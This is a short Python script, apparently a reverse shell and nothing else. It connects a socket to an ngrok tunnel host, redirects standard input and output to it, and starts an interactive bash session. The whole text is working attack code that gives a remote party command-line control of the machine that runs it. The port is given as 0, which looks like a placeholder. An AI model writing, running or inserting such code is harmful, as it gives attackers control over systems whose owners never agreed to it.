import os
import socket
import subprocess

s = socket.socket()
s.connect(("0.tcp.ngrok.io", 0))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/bash", "-i"])
